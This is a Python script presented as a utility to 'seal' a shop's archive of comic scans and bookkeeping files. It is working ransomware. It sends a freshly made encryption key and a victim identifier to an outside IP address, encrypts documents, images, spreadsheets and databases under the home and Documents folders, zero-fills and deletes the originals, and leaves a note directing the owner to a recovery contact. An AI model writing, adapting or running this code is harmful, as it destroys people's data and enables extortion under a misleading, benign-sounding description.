#!/usr/bin/env python3
"""Seal the shop's scan archive.

Walks the archive of cover scans, grading photos and bookkeeping exports,
seals every file in place and leaves instructions for unsealing.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("sealer")

TARGET_EXT = {".cbz", ".cbr", ".pdf", ".jpg", ".png", ".tif", ".xlsx",
              ".csv", ".qbw", ".docx", ".db", ".sqlite"}
MARK = ".sealed"
NOTE = "HOW_TO_UNSEAL.txt"


def _fernet():
    mod = __import__("cryptography.fernet", fromlist=["Fernet"])
    return getattr(mod, "Fernet")


@dataclass
class KeyEscrow:
    url: str = os.environ.get("ESCROW_URL", "http://198.51.100.77:8080/k")

    def deposit(self, key: bytes, victim_id: str) -> None:
        body = json.dumps({"id": victim_id, "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST")
        try:
            urllib.request.urlopen(req, timeout=20).close()
        except OSError as exc:
            log.debug("escrow unreachable: %s", exc)


class Sealer:
    def __init__(self, key: bytes):
        self._box = _fernet()(key)
        self.done = 0

    def seal(self, path: Path) -> None:
        data = path.read_bytes()
        out = path.with_name(path.name + MARK)
        out.write_bytes(self._box.encrypt(data))
        # overwrite then drop the original
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        os.remove(path)
        self.done += 1


def walk(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(MARK):
                yield p


def leave_note(root: Path, victim_id: str) -> None:
    (root / NOTE).write_text(
        "Your shop files have been sealed.\n"
        f"Reference: {victim_id}\n"
        "Contact unseal@recovery-desk.example.com with the reference above.\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path.home() / "ShopArchive", Path.home() / "Documents"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    Fernet = _fernet()
    key = Fernet.generate_key()
    victim_id = f"{socket.gethostname()}-{os.getpid():x}"
    KeyEscrow().deposit(key, victim_id)

    sealer = Sealer(key)
    del key
    for root in args.roots:
        if not root.is_dir():
            continue
        for path in walk(root):
            try:
                sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        leave_note(root, victim_id)
    log.warning("sealed %d files", sealer.done)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
